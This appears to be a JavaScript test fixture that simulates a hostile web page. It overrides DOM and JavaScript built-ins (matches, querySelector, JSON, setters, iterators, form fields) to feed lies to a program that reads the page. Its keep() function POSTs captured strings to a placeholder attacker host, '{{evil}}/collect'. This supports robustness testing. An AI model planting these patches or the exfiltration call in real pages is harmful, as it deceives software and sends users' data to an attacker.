// Each patch is one lie that a page can tell a program which reads it in the page's own world.
const decoy = document.getElementById('decoy');
const patches = {
  matches() { Element.prototype.matches = () => true; Element.prototype.closest = () => decoy; },
  query() { Document.prototype.querySelector = () => decoy; Element.prototype.querySelectorAll = () => [decoy]; },
  rect() { Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 0, 0); },
  value() {
    Object.defineProperty(HTMLInputElement.prototype, 'value', {get: () => 'a lie', set() {}, configurable: true});
    Object.defineProperty(HTMLInputElement.prototype, 'type', {get: () => 'text', configurable: true});
  },
  active() { Object.defineProperty(Document.prototype, 'activeElement', {get: () => decoy}); },
  origin() { try { Object.defineProperty(window, 'origin', {value: '{{evil}}'}); } catch {} },
  stringify() { JSON.stringify = () => '{"lie":true}'; JSON.parse = () => ({lie: true}); },
  dispatch() { EventTarget.prototype.dispatchEvent = () => true; EventTarget.prototype.addEventListener = () => {}; },
  focus() { HTMLElement.prototype.focus = () => decoy.click(); HTMLElement.prototype.blur = () => {}; },
  command() { document.execCommand = () => true; Document.prototype.execCommand = () => true; },
  setters() {
    for (const name of ['objectId', 'uid', 'result', 'outcome']) {
      Object.defineProperty(Object.prototype, name, {set(v) { keep(v); }, get: () => 'a lie', configurable: true});
    }
  },
  iterators() {
    const none = {next: () => ({done: true})};
    Array.prototype[Symbol.iterator] = () => none;
    NodeList.prototype[Symbol.iterator] = () => none;
  },
  arrays() { Array.prototype.push = function (v) { keep(v); return 0; }; Array.prototype.join = () => 'a lie'; },
  strings() { String.prototype.trim = () => 'a lie'; String.prototype.replace = function () { keep(this); return 'a lie'; }; },
  names() {
    Object.prototype.toString = () => '[object Lie]';
    Object.defineProperty(Element.prototype, 'tagName', {get: () => 'DIV'});
    Object.defineProperty(Element.prototype, 'shadowRoot', {get: () => { throw new Error('no'); }});
  },
  clobber() { form.insertAdjacentHTML('beforeend', '<input type="hidden" name="action"><input type="hidden" name="attributes">'); },
  mutate() {
    // Edits the field back whenever the page changes; the guard keeps it from answering itself.
    new MutationObserver(() => { if (decoy.title !== 'edited') decoy.title = 'edited'; })
      .observe(document, {subtree: true, childList: true, attributes: true});
  },
  freeze() { for (const type of [HTMLInputElement, HTMLElement, Element, Node, EventTarget]) Object.freeze(type.prototype); },
};

// keep sends home what a lie has caught. Strings of the page itself pass here too.
const send = fetch.bind(window);
function keep(value) {
  if (typeof value === 'string' && value) send('{{evil}}/collect', {method: 'POST', body: value, mode: 'no-cors'});
}
